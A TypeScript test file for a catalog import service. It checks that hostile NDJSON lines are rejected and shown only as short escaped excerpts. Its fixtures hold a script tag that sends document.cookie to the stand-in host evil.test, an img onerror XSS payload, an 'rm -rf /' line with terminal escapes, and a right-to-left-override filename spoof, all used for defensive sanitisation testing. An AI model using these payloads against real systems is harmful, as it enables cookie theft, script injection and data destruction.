import type { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { expectToolOk } from '@mcpfed/testing';
import { MAX_RECORD_BYTES } from '../src/catalog/service/import/max-record-bytes.ts';
import { startProductTestServer } from './catalog-fixtures.ts';
import type { ProductTestServer } from './catalog-fixtures.ts';
import { goodImportLine, importFinished, startCountingServer, startImport } from './import-fixtures.ts';
import type { CountingServer } from './import-fixtures.ts';

// What an import file's bytes may reach a caller as (issue 11.2): rejected lines come back only as short excerpts
// in which control characters, markup and invisible marks are escaped; a line PostgreSQL cannot store (NUL) is
// rejected as a row instead of failing its batch.

let server: ProductTestServer;
let client: Client;
let files: CountingServer;

const bad = (fields: Record<string, unknown>) => JSON.stringify({ category: 'cables', price_amount: 1, currency: 'EUR', ...fields });
const LINES = [
  String.raw`{"sku":"HL-1","name":"nul\u0000inside","category":"cables","price_amount":1,"currency":"EUR"}`,
  '{"sku":"HL-2","name":"raw\u0000nul"}',
  '\u001b[2J\u001b[31mALERT\u001b[0m rm -rf /',
  'A'.repeat(MAX_RECORD_BYTES + 1),
  'B'.repeat(600_000),
  "<script>fetch('//evil.test/'+document.cookie)</script>",
  bad({ sku: 'HL-7', name: '<img src=x onerror=alert(1)>', currency: 'eur' }),
  bad({ sku: 'HL-8', name: 'invoice\u202Eexe.txt\u200B', currency: 'x' }),
  String.raw`{"sku":"HL-9","name":"\ud800","category":"cables","price_amount":1,"currency":"EUR"}`,
  goodImportLine('HL-10', 1000),
];

beforeAll(async () => {
  server = await startProductTestServer({ importMaxBytes: 4 * 1024 * 1024 });
  client = await server.connect(['product:read', 'product:write'], 'importer');
  await server.startWorker();
  files = await startCountingServer('127.0.0.1', (_request, response) => {
    response.writeHead(200, { 'content-type': 'application/x-ndjson' });
    response.end(`${LINES.join('\n')}\n`);
  });
  server.allowUrlHost(files.url);
});

afterAll(async () => {
  await files?.close();
  await server?.close();
});

describe('an import file with hostile lines', () => {
  it('imports the good row and shows each rejected line only as a short escaped excerpt', async () => {
    const job = await startImport(client, { url: `${files.url}/hostile.jsonl` }, 'jsonl');
    const status = await importFinished(client, job.id);
    expect(status.import).toMatchObject({ status: 'completed', rows_read: 10, rows_ok: 1, rows_failed: 9, error: null });
    const unstorable = 'contains a NUL character or an unpaired surrogate, which cannot be stored';
    expect(status.errors).toEqual([
      { line: 1, field: 'name', message: `name: ${unstorable}`, excerpt: LINES[0] },
      { line: 2, field: 'row', message: 'not valid JSON', excerpt: String.raw`{"sku":"HL-2","name":"raw\u0000nul"}` },
      { line: 3, field: 'row', message: 'not valid JSON', excerpt: String.raw`\u001b[2J\u001b[31mALERT\u001b[0m rm -rf /` },
      { line: 4, field: 'row', message: `line longer than ${MAX_RECORD_BYTES} bytes`, excerpt: null },
      { line: 5, field: 'row', message: 'not valid JSON', excerpt: `${'B'.repeat(120)}...` },
      { line: 6, field: 'row', message: 'not valid JSON', excerpt: String.raw`\u003cscript\u003efetch('//evil.test/'+document.cookie)\u003c/script\u003e` },
      {
        line: 7,
        field: 'currency',
        message: 'currency: ISO 4217 code, e.g. EUR',
        excerpt: String.raw`{"category":"cables","price_amount":1,"currency":"eur","sku":"HL-7","name":"\u003cimg src=x onerror=alert(1)\u003e"}`,
      },
      {
        line: 8,
        field: 'currency',
        message: 'currency: ISO 4217 code, e.g. EUR',
        excerpt: String.raw`{"category":"cables","price_amount":1,"currency":"x","sku":"HL-8","name":"invoice\u202eexe.txt\u200b"}`,
      },
      { line: 9, field: 'name', message: `name: ${unstorable}`, excerpt: LINES[8] },
    ]);
    for (const error of status.errors) {
      expect(error.excerpt === null || error.excerpt.length <= 123).toBe(true);
      // No control character, markup character or invisible mark survives; the message and field are the server's own words.
      expect(`${error.excerpt ?? ''}${error.message}${error.field}`).not.toMatch(
        /[\u0000-\u001f\u007f-\u009f<>&`\u200b-\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/,
      );
    }
    const stored = await server.database.db
      .selectFrom('product_import_errors')
      .select((eb) => [eb.fn.max(eb.fn('char_length', ['raw'])).as('longest'), eb.fn.countAll<string>().as('rows')])
      .where('import_id', '=', job.id)
      .executeTakeFirstOrThrow();
    expect({ longest: Number(stored.longest), rows: Number(stored.rows) }).toEqual({ longest: 123, rows: 9 });
    const imported = await expectToolOk<{ items: Array<{ sku: string }> }>(client, 'product_lookup', { skus: ['HL-1', 'HL-9', 'HL-10'] });
    expect(imported.items.map((item) => item.sku)).toEqual(['HL-10']);
  });
});
